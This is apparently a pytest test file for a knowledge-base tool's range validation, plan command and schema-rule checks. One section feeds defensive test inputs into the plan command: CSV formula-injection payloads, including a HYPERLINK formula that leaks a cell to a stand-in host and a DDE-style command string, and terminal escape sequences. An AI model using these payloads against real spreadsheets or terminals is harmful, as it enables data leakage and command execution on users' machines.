"""Physical ranges (issue 41, item 5): every quantity field declares the values it can take at all
(x-kb-range), and a figure outside them is an error wherever it stands, in a record (KB405 at the figure) or
in kb plan's FIELD=VALUE settings (refused, exit 2, before anything is printed). Before: `gpus=-8` ranked
tiers by negative times with exit 0, and `gpus: -8` or `hit_rate: 7` in a workload passed kb check.

With them: kb plan's outputs carry the records' text safely (P18, P19), `kb plan` alone is a usage error, and
an x-kb-require rule is checked at its schema like an x-kb-constraints rule (item 7)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from conftest import REPO, run_kb

from kbtools.authoring.init import TYPE_SETS
from kbtools.registry import FieldPlan, load_registry

# ---------------------------------------------------------------- every shipped schema bounds its numbers


def shipped_schema_dirs(tmp_path: Path) -> list[Path]:
    """The repository's schemas and each starter set as `kb init` writes it."""
    dirs = [REPO / "schema"]
    for name in TYPE_SETS:
        done = run_kb("init", str(tmp_path / name), "--types", name)
        assert done.returncode == 0, done.stderr
        dirs.append(tmp_path / name / "schema")
    return dirs


def unbounded_quantities(plan: FieldPlan, path: str = "") -> list[str]:
    """The quantity fields of a compiled schema that have no physical range kb could read."""
    found = [path] if plan.quantity is not None and getattr(plan, "physical", None) is None else []
    children = [*plan.properties.items(), ("[]", plan.items), ("{}", plan.additional)]
    for name, child in children:
        if child is not None:
            found += unbounded_quantities(child, f"{path}.{name}" if path else name)
    return found


def quantity_shapes(schemas: dict[str, dict]) -> set[int]:
    """The subschemas a quantity field $refs for its shape (defs' quantity): the numbers in them are the
    field's, which its x-kb-range bounds."""
    shapes = set()

    def visit(node):
        if isinstance(node, dict):
            ref = node.get("$ref")
            if "x-kb-quantity" in node and isinstance(ref, str) and "#/" in ref:
                file, pointer = ref.split("#/")
                target = schemas[file]
                for part in pointer.split("/"):
                    target = target[part]
                shapes.add(id(target))
            for value in node.values():
                visit(value)
        elif isinstance(node, list):
            for value in node:
                visit(value)

    for schema in schemas.values():
        visit(schema)
    return shapes


def unbounded_numbers(node, shapes: set[int], where: str) -> list[str]:
    """JSON number and integer schemas without a minimum, outside the quantity shapes."""
    if isinstance(node, list):
        return [hit for i, item in enumerate(node) for hit in unbounded_numbers(item, shapes, f"{where}[{i}]")]
    if not isinstance(node, dict) or id(node) in shapes:
        return []
    kind = node.get("type")
    kinds = (
        set(kind) if isinstance(kind, list) else {kind} if isinstance(kind, str) else set()
    )  # not a field named type
    found = [where] if {"number", "integer"} & kinds and not {"minimum", "exclusiveMinimum"} & set(node) else []
    for key, value in node.items():
        if not key.startswith("x-kb-"):  # annotations are kb's data, not the record's fields
            found += unbounded_numbers(value, shapes, f"{where}/{key}")
    return found


def test_every_numeric_field_of_every_schema_kb_ships_has_its_range(tmp_path):
    """A new quantity field cannot land without x-kb-range, nor a JSON number without a minimum."""
    missing = []
    for schema_dir in shipped_schema_dirs(tmp_path):
        registry = load_registry(schema_dir, schema_dir.parent)
        assert not [d for d in registry.diagnostics if d.code == "KB210"], registry.diagnostics
        for record_type in registry.types.values():
            missing += [f"{schema_dir}: {record_type.name}.{f}" for f in unbounded_quantities(record_type.plan)]
        schemas = {path.name: json.loads(path.read_text()) for path in schema_dir.glob("*.schema.json")}
        shapes = quantity_shapes(schemas)
        for name, schema in schemas.items():
            missing += [f"{schema_dir}/{hit}" for hit in unbounded_numbers(schema, shapes, name)]
    assert missing == [], "numeric fields without a physical range:\n" + "\n".join(missing)


# ---------------------------------------------------------------- a small knowledge base to plan with


WORKLOAD = {
    "model": "m",
    "accelerator": "gpu",
    "gpus": "8",
    "engine": "e",
    "prefix_tokens": "8192 token",
    "hit_rate": "0.9",
    "tiers": "[dram]",
}


def planning_base(kb, tier_name: str | None = None, **fields: str) -> Path:
    """A model, an accelerator, an engine, two tiers and a workload `w` over them; `fields` replace the
    workload's (a value of None leaves the field out)."""
    kb.source()
    kb.record(
        "models",
        "m",
        "model",
        "architecture: dense\nattention: gqa\nparams_active: 8 Gparam\nnum_layers: 32\nhidden_size: 4096\n"
        "num_attention_heads: 32\nnum_kv_heads: 8\nhead_dim: 128\nkv_dtype_size: 2 B\n",
    )
    kb.record("interconnects", "link", "interconnect", "kind: pcie\nscope: host\nbandwidth_per_direction: 63 GB/s\n")
    kb.record(
        "accelerators",
        "gpu",
        "accelerator",
        "vendor: V\npeak_bf16_dense: 989 TFLOP/s\ntdp: 700 W\nhost_link: link\nscale_up_link: link\n",
    )
    kb.record("engines", "e", "engine", "kind: serving-engine\n")
    named = f"name: {json.dumps(tier_name)}\n" if tier_name is not None else ""
    tier = kb.record(
        "storage-tiers",
        "dram",
        "storage_tier",
        "medium: dram\npath: tiered-offload\nscope: per-accelerator\nbandwidth: 50 GB/s\nlinks_per_accelerator: 1\n"
        "capacity: 1000 GB\n",
    )
    if named:
        tier.write_text(tier.read_text().replace("name: dram name\n", named))
    kb.record(
        "storage-tiers",
        "peer",
        "storage_tier",
        "medium: hbm\npath: tiered-offload\nscope: per-accelerator\nbandwidth: 450 GB/s\n",
    )
    workload = {**WORKLOAD, **fields}
    text = "".join(f"{key}: {value}\n" for key, value in workload.items() if value is not None)
    return kb.record("workloads", "w", "workload", text, body="[[m]] [[gpu]] [[e]] [[dram]] [[peer]] [[link]]\n")


def settings(**changed: str) -> list[str]:
    """The workload as kb plan's FIELD=VALUE settings."""
    every = {**WORKLOAD, "tiers": "dram", **changed}
    return [f"{key}={value}" for key, value in every.items()]


def at(path: Path, needle: str) -> str:
    """'line:col' of the first occurrence of `needle` in a record."""
    for number, line in enumerate(path.read_text().splitlines(), 1):
        if needle in line:
            return f"{number}:{line.index(needle) + 1}"
    raise AssertionError(needle)


# ---------------------------------------------------------------- kb plan refuses an impossible setting


@pytest.mark.parametrize(
    "setting, said",
    [
        ("gpus=-8", "gpus: -8 is impossible: gpus is a whole number, at least 1 (a count of accelerators)"),
        ("gpus=0.5", "gpus: 0.5 is impossible: gpus is a whole number, at least 1"),
        ("gpus=0", "gpus: 0 is impossible: gpus is a whole number, at least 1"),
        ("hit_rate=2", "hit_rate: 2 is impossible: hit_rate is from 0 to 1 (a fraction of requests)"),
        ("hit_rate=-5", "hit_rate: -5 is impossible: hit_rate is from 0 to 1"),
        ("hit_rate=1.5", "hit_rate: 1.5 is impossible: hit_rate is from 0 to 1"),
        ("hit_rate=0.8:0.9:1.2", "hit_rate.high: 1.2 is impossible: hit_rate is from 0 to 1"),
        ("prefix_tokens=-8192", "prefix_tokens: -8,192 token is impossible: prefix_tokens is above 0"),
        (
            "prefill_efficiency=1.5",
            "prefill_efficiency: 1.5 is impossible: prefill_efficiency is above 0 and at most 1",
        ),
    ],
)
def test_an_impossible_setting_is_refused_before_anything_is_printed(kb, setting, said):
    planning_base(kb)
    field = setting.partition("=")[0]
    done = kb.run("plan", *settings(**{field: setting.partition("=")[2]}))
    assert done.exit_code == 2, done.out
    assert done.out == ""
    assert done.err.strip() == f"kb plan: {said}" or done.err.startswith(f"kb plan: {said}"), done.err


def test_an_impossible_setting_over_a_workload_record_is_refused_too(kb):
    """The newcomer's case: the published workload with hit_rate=1.5 gave a TTFT of -241 ms, exit 0. The
    workload itself checks clean and plans, as its settings do: each refusal here and above is the setting's."""
    planning_base(kb)
    result = kb.check()
    assert result.exit_code == 0 and not [line for line in result.lines if " error " in line], result.out
    for asked in (["workloads/w"], settings()):
        planned = kb.run("plan", *asked)
        assert planned.exit_code == 0 and "ttft" in planned.out, planned.err
    done = kb.run("plan", "workloads/w", "hit_rate=1.5")
    assert done.exit_code == 2 and done.out == "", done.out
    assert "hit_rate: 1.5 is impossible: hit_rate is from 0 to 1" in done.err


def test_a_setting_in_an_unknown_unit_is_refused_before_anything_is_printed(kb):
    """Before: the whole plan printed with its figures empty, then the unit's error, exit 1."""
    planning_base(kb)
    done = kb.run("plan", *settings(prefix_tokens="16k"))
    assert done.exit_code == 2 and done.out == "", done.out
    assert "kb plan: prefix_tokens: unknown unit 'k'" in done.err


def test_kb_plan_alone_prints_its_usage(kb):
    """Before: KB900 internal error, AttributeError: 'NoneType' object has no attribute 'key'."""
    planning_base(kb)
    done = kb.run("plan")
    assert done.exit_code == 2 and done.out == ""
    assert done.err.startswith("kb plan: usage: kb plan WORKLOAD | FIELD=VALUE..."), done.err
    assert "workloads/w" in done.err and "KB900" not in done.err


# ---------------------------------------------------------------- kb check: KB405 at the figure


def test_an_impossible_figure_in_a_workload_is_an_error_at_its_value(kb):
    """Before: `gpus: -8` and `hit_rate: 7` passed kb check (0 errors)."""
    path = planning_base(kb, gpus="-8", hit_rate="7")
    result = kb.check()
    assert result.exit_code == 1
    assert result.find("KB405") == [
        f"records/workloads/w.md:{at(path, '-8')}: error KB405 gpus: -8 is impossible: gpus is a whole number, "
        "at least 1 (a count of accelerators)",
        f"records/workloads/w.md:{at(path, '7')}: error KB405 hit_rate: 7 is impossible: hit_rate is from 0 to 1 "
        "(a fraction of requests)",
    ]


def test_nothing_is_computed_from_an_impossible_figure(kb):
    """The plan of a workload with gpus: -8 shows no negative time: the figures that read gpus are not made."""
    planning_base(kb, gpus="-8")
    done = kb.run("plan", "workloads/w", "--format", "json")
    assert done.exit_code == 1 and "gpus: -8 is impossible" in done.err
    figures = json.loads(done.out)["figures"]
    assert "recompute_time" not in figures and all(f["value"] >= 0 for f in figures.values()), figures


def test_each_end_of_a_band_is_judged(kb):
    path = planning_base(kb, hit_rate="{value: 0.9, low: -0.1, high: 1.1}")
    found = kb.check().find("KB405")
    assert found == [
        f"records/workloads/w.md:{at(path, '-0.1')}: error KB405 hit_rate.low: -0.1 is impossible: hit_rate is "
        "from 0 to 1 (a fraction of requests)",
        f"records/workloads/w.md:{at(path, '1.1')}: error KB405 hit_rate.high: 1.1 is impossible: hit_rate is "
        "from 0 to 1 (a fraction of requests)",
    ]


def test_every_competing_value_is_judged(kb):
    kb.source()
    path = kb.record(
        "accelerators",
        "gpu",
        "accelerator",
        "vendor: V\nmemory_bandwidth:\n  - {value: 3.35 TB/s, rank: preferred, source: src-a}\n"
        "  - {value: -3.35 TB/s, rank: normal, source: src-a}\n",
        body="[[src-a]]\n",
    )
    found = kb.check().find("KB405")
    assert found == [
        f"records/accelerators/gpu.md:{at(path, '-3.35 TB/s')}: error KB405 memory_bandwidth[1]: -3.35 TB/s is "
        "impossible: memory_bandwidth is above 0"
    ]


def test_an_input_that_sets_a_field_is_held_to_the_fields_range(kb):
    """An input named as a field overrides it in the formulas, so it is read in the field's unit and range."""
    path = planning_base(kb)
    path.write_text(path.read_text().replace("tiers: [dram]\n", "tiers: [dram]\ninputs:\n  prefix_tokens: -512\n"))
    found = kb.check().find("KB405")
    assert found == [
        f"records/workloads/w.md:{at(path, '-512')}: error KB405 inputs.prefix_tokens: -512 token is impossible: "
        "prefix_tokens is above 0 (the length of a prefix)"
    ]


def test_a_derived_figure_outside_its_range_is_an_error(kb):
    """A formula can give what none of its inputs is: 90 windowed layers of a 32-layer model leave -58 full ones."""
    kb.source()
    path = kb.record(
        "models",
        "m",
        "model",
        "architecture: dense\nattention: gqa\nnum_layers: 32\nsliding_window_layers: 90\nsliding_window: 4096 token\n",
        body="[[src-a]]\n",
    )
    found = kb.check().find("KB405")
    assert found == [
        f"records/models/m.md:{at(path, 'num_layers').split(':')[0]}:1: error KB405 full_attention_layers = "
        "num_layers - default(sliding_window_layers, 0) - default(linear_attention_layers, 0): -58 is impossible: "
        "full_attention_layers is a whole number, at least 0 (a count of layers)"
    ]


def test_a_field_of_any_unit_is_bounded_by_zero_in_every_unit(kb):
    kb.source()
    path = kb.record(
        "measurements",
        "x",
        "measurement",
        "metric: time to first token\nvalue: -120 ms\nmeasured_by: src-a\n",
        body="[[src-a]]\n",
    )
    found = kb.check().find("KB405")
    assert found == [
        f"records/measurements/x.md:{at(path, '-120 ms')}: error KB405 value: -120 ms is impossible: value is at "
        "least 0 (a measured figure is a time, a rate, a size or a ratio, never below 0)"
    ]


# ---------------------------------------------------------------- a range kb cannot read is the schema's KB210


def set_range(kb, type_name: str, field: str, spec) -> str:
    path = kb.root / "schema" / f"{type_name}.schema.json"
    schema = json.loads(path.read_text())
    if spec is None:
        del schema["properties"][field]["x-kb-quantity"]
    else:
        schema["properties"][field]["x-kb-range"] = spec
    text = json.dumps(schema, indent=2)
    path.write_text(text)
    return text


@pytest.mark.parametrize(
    "type_name, field, spec, said",
    [
        ("workload", "gpus", {"min": 1, "above": 0}, "gives min and above: an end is either in the range"),
        ("workload", "hit_rate", {"min": 1, "max": 0}, "its low end is not below its high end: the range is empty"),
        ("workload", "hit_rate", {"above": 1, "max": 1}, "its low end is not below its high end"),
        ("workload", "prefix_tokens", {"min": "1 GB/s"}, "min '1 GB/s' is information per time, but the field is"),
        ("workload", "prefix_tokens", {"min": "nan token"}, "min 'nan token' is not a quantity"),
        ("workload", "prefix_tokens", {"max": "1e999 token"}, "max '1e999 token' is out of range"),
        ("workload", "gpus", {"whole": "yes"}, 'whole is true (a whole number) or left out, not "yes"'),
        ("workload", "gpus", {"reason": "r"}, "gives no end (min, above, max, below) and not whole"),
        ("workload", "gpus", {"least": 1}, "unknown key 'least'"),
        ("workload", "gpus", [0, 1], "is an object {min, above, max, below, whole, reason}, not a list"),
        ("measurement", "value", {"min": "1 ms"}, "min is 0 on a field of any unit ('*')"),
        ("measurement", "value", {"min": 0, "whole": True}, "whole counts in the field's unit"),
    ],
)
def test_a_range_kb_cannot_read_is_a_schema_error_and_checks_nothing(kb, type_name, field, spec, said):
    text = set_range(kb, type_name, field, spec)
    planning_base(kb, gpus="-8", hit_rate="7", prefix_tokens="-1 token")
    result = kb.check()
    assert "KB900" not in result.out + result.err
    found = [line for line in result.find("KB210") if "x-kb-range" in line]
    line = text.count("\n", 0, text.index('"x-kb-range"', text.index(f'"{field}": {{'))) + 1
    assert len(found) >= 1 and found[0].startswith(f"schema/{type_name}.schema.json:"), result.out
    assert any(f"x-kb-range of {field}: {said}" in f for f in found), found
    assert line <= int(found[0].split(":")[1]) <= line + 8, (found, line)  # within the x-kb-range object
    assert not [f for f in result.find("KB405") if f" {field}: " in f and type_name == "workload"], result.out


def test_a_range_needs_the_quantity_it_bounds(kb):
    text = set_range(kb, "workload", "request_rate", None)  # x-kb-quantity gone, x-kb-range left
    kb.source()
    result = kb.check()
    line = text.count("\n", 0, text.index('"x-kb-range"', text.index('"request_rate": {'))) + 1
    assert (
        f"schema/workload.schema.json:{line}:1: error KB210 x-kb-range of request_rate: bounds a quantity field: "
        "it stands beside the field's x-kb-quantity" in result.out
    ), result.out


# ---------------------------------------------------------------- kb plan's outputs carry hostile names safely


HYPERLINK = '=HYPERLINK("http://example.org/?leak="&A1,"click")'


@pytest.mark.parametrize("name", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
def test_a_tier_name_that_is_a_formula_is_text_in_kb_plans_csv(kb, name):
    """P18: csv quoting alone left `=HYPERLINK(...)` a live formula in a spreadsheet."""
    planning_base(kb, tier_name=name)
    done = kb.run("plan", "workloads/w", "--format", "csv")
    assert done.exit_code == 0, done.err
    rows = list(csv.DictReader(io.StringIO(done.out)))
    assert rows[0]["name"] == "'" + name and float(rows[0]["ttft"]) > 0, rows


def test_escape_sequences_in_a_tier_name_do_not_reach_the_terminal(kb):
    """P19: an OSC title, a clear screen and hidden text in a tier's name reached the terminal raw."""
    name = "dram\x1b]0;owned\x07\x1b[2J\x1b[8mhidden\x9b31m"
    planning_base(kb, tier_name=name)
    for extra in ((), ("--explain",)):
        done = kb.run("plan", "workloads/w", *extra)
        assert done.exit_code == 0, done.err
        assert not any(c in done.out for c in "\x1b\x07\x9b"), repr(done.out)
        assert "(dram\\x1b]0;owned\\x07\\x1b[2J\\x1b[8mhidden\\x9b31m)" in done.out


# ---------------------------------------------------------------- x-kb-require is checked at its schema


def set_require(kb, rules) -> str:
    path = kb.root / "schema" / "source.schema.json"
    schema = json.loads(path.read_text())
    schema["x-kb-require"] = rules
    text = json.dumps(schema, indent=2)
    path.write_text(text)
    return text


def a_source_without_url(kb) -> None:
    kb.record("sources", "src-a", "source", "kind: docs\norigin: first-party\npublisher: Someone\n")
    kb.record("engines", "e", "engine", "kind: serving-engine\n", body="[[src-a]]\n")


@pytest.mark.parametrize(
    "rule, said",
    [
        ({"any_of": ["url"], "code": "XY123", "message": "m"}, "rule XY123: severity is 'error' or 'warning'"),
        ({"any_of": ["url"], "code": "KB900", "message": "m"}, "rule code 'KB900' is kb's own"),
        ({"any_of": ["url"], "code": "KB120", "severity": "error"}, "rule code 'KB120' is kb's own"),
        ({"any_of": ["url"], "code": "xy1"}, "rule code 'xy1' is not like 'KB561'"),
        ({"any_of": ["url"], "code": "KB308", "severity": "error"}, "rule KB308: KB308 is kb's own, whose severity"),
        ({"any_of": ["website"], "code": "KB308"}, "rule KB308: any_of: 'website' is not a field of source"),
        ({"any_of": "url"}, "rule KB202: any_of lists the fields a record needs one of, not a string"),
        ("url", "a rule is an object {any_of, code, severity, message, if_any}, not a string"),
    ],
)
def test_an_ill_formed_require_rule_is_a_schema_error_not_a_crash(kb, rule, said):
    """Before: a code kb does not define was KB900 (KeyError) on every record the rule judged; kb's own KB900
    made the rule's finding read as a crash of kb."""
    text = set_require(kb, [rule])
    a_source_without_url(kb)
    result = kb.check()
    assert " error KB900 " not in result.out and "Traceback" not in result.err, result.out
    line = text.count("\n", 0, text.index('"x-kb-require"')) + 1
    found = result.find("KB210")
    assert any(f.startswith("schema/source.schema.json:") and f"x-kb-require: {said}" in f for f in found), found
    assert all(int(f.split(":")[1]) >= line for f in found if "x-kb-require" in f), (found, line)
    assert not [f for f in result.lines if "records/sources/src-a.md" in f and "XY123" in f]


def test_a_require_rule_with_the_projects_code_reports_it_at_its_severity(kb):
    set_require(
        kb,
        [
            {"any_of": ["url", "no_url"], "code": "KB308", "message": "a source needs a url"},
            {"any_of": ["published"], "code": "XY123", "severity": "warning", "message": "say when it was published"},
        ],
    )
    a_source_without_url(kb)
    result = kb.check()
    assert not result.find("KB210") and "KB900" not in result.out, result.out
    assert [line.split(" ", 1)[1] for line in result.lines if "src-a.md" in line] == [
        "warning KB308 a source needs a url",
        "warning XY123 say when it was published",
    ], result.out
